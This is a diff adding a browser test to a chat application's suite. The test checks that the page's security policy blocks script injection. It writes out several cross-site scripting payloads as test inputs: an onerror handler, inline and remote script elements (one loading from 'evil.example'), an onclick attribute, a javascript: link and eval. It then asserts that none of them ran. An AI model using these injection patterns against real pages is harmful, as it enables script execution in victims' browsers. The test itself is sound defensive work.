@@ -51,6 +51,44 @@ public sealed class ScriptTests(SharedServer shared, Chromium chromium)
         browser.AssertNoComplaints();
     }
 
+    /// <summary>The second fence: what a fault of ours might let into the page one day.</summary>
+    [Fact]
+    public async Task Attack_51_Markup_that_got_into_the_page_all_the_same_runs_nothing()
+    {
+        using var bea = await Person.RegisterAsync(shared.Server, "bea");
+        await using var browser = await chromium.VisitorAsync(shared.Server);
+        await browser.BeAsync(bea);
+        List<string> ran = [];
+        await browser.Context.ExposeFunctionAsync("pwned", () => ran.Add("a script ran"));
+        var chat = await ChatPage.OpenAsync(browser);
+
+        // Each in a way that a browser without rules obeys.
+        var outcomes = await chat.Page.EvaluateAsync<string[]>("""
+            async () => {
+              const tries = [
+                () => { document.body.appendChild(document.createElement('div')).innerHTML = '<img src="/nothing" onerror="pwned()">'; },
+                () => { const script = document.createElement('script'); script.textContent = 'pwned()'; document.body.append(script); },
+                () => { const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; document.body.append(script); },
+                () => { const button = document.createElement('button'); button.setAttribute('onclick', 'pwned()'); document.body.append(button); button.click(); },
+                () => { const link = document.createElement('a'); link.href = 'javascript:pwned()'; document.body.append(link); link.click(); },
+                () => { eval('pwned()'); },
+              ];
+              const outcomes = tries.map(attempt => { try { attempt(); return 'done'; } catch (error) { return error.name; } });
+              await new Promise(resolve => { const image = new Image(); image.onerror = image.onload = resolve; image.src = '/nothing-either'; });
+              return outcomes;
+            }
+            """);
+
+        // What the policy refuses at once throws; what it refuses later is reported.
+        Assert.Equal("TypeError", outcomes[0]);
+        Assert.Equal("TypeError", outcomes[1]);
+        Assert.Equal("TypeError", outcomes[2]);
+        Assert.Equal("TypeError", outcomes[3]);
+        Assert.Equal("EvalError", outcomes[5]);
+        await browser.ComplainedAsync();
+        Assert.Empty(ran);
+    }
+
     [Fact]
     public async Task Attack_52_Only_links_to_the_web_are_links()
     {
